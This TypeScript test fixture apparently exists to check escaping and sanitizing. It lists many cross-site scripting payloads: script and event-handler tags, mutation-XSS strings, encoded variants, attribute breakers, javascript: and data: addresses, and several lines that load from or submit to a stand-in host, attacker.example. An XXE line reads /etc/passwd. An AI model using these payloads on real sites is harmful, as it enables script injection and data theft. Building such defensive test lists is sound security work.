/**
 * Texts that run code, load something or take a page apart when a program forgets to escape them once. Each calls
 * `alert`, navigates or loads; none is meant for one place only.
 */
export function xssVectors(): readonly string[] {
  return [...markup, ...mutation, ...encoded, ...breakers, ...addresses, ...handlers()]
}

/** Addresses that must never become links. */
export function scriptAddresses(): readonly string[] {
  return addresses
}

const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//attacker.example/x.js></script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`onerror=alert(1)//">',
  '<img srcset="x 1x" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></foreignObject></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<link rel=stylesheet href="https://attacker.example/x.css">',
  '<link rel=prefetch href="https://attacker.example/x">',
  '<style>@import "https://attacker.example/x.css";</style>',
  '<style>*{background:url(https://attacker.example/x)}</style>',
  '<style onload=alert(1)></style>',
  '<form action="https://attacker.example/"><input name=q autofocus></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
  '<table background="https://attacker.example/x">',
  '<a href="javascript:alert(1)" id=location name=cookie>x</a>',
  '<div style="background:url(https://attacker.example/x)">x</div>',
  '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>',
  '<x onclick=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</x>',
  '<template><img src=x onerror=alert(1)></template>',
  '<portal src="https://attacker.example/">',
]

const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  ']]><img src=x onerror=alert(1)>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
]

const encoded = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&lt;img src=x onerror=alert(1)&gt;<img src=x onerror=alert(1)>',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '+ADw-img src=x onerror=alert(1)+AD4-',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u202E<img src=x onerror=alert(1)>\u202C',
  '\u2028<img src=x onerror=alert(1)>\u2029',
  '\uFEFF<img src=x onerror=alert(1)>',
  '<img/\u000Csrc=x\u000Conerror=alert(1)>',
  '<img\u0000 src=x onerror=alert(1)>',
  '\uD800<img src=x onerror=alert(1)>\uDC00',
  '${alert(1)} #{alert(1)} {{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %> <?php alert(1) ?>',
]

const breakers = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
  '" style="background:url(https://attacker.example/x)',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '</pre></code><img src=x onerror=alert(1)>',
  '</bdi></a></time><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)><!--',
  '\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
]

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\u00A0:alert(1)',
  'javascript://example.org/%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://example.org/0f5f5f5f',
  'filesystem:https://example.org/temporary/x',
  'view-source:https://example.org/',
  'file:///etc/passwd',
  'about:blank',
  'feed:javascript:alert(1)',
  'jar:https://example.org/x.jar!/',
]

function handlers(): string[] {
  const events = [
    'onload', 'onerror', 'onfocus', 'onclick', 'onmouseenter', 'onpointerover', 'onanimationstart', 'ontransitionend',
    'onscroll', 'onwheel', 'oninput', 'onbeforeinput', 'onselectionchange', 'onsecuritypolicyviolation', 'onslotchange',
    'onbeforematch', 'onscrollend', 'oncontentvisibilityautostatechange', 'onkeydown', 'onblur', 'onresize',
    'onhashchange', 'onmessage', 'onpopstate', 'onunhandledrejection', 'onbeforeunload', 'onvolumechange', 'oncuechange',
    'onformdata', 'oninvalid',
  ] // prettier-ignore
  return events.flatMap((event) => [
    `<input ${event}=alert(1) autofocus>`,
    `"/><svg/${event}="alert(1)">`,
    `' ${event}='alert(1)' x='`,
  ])
}
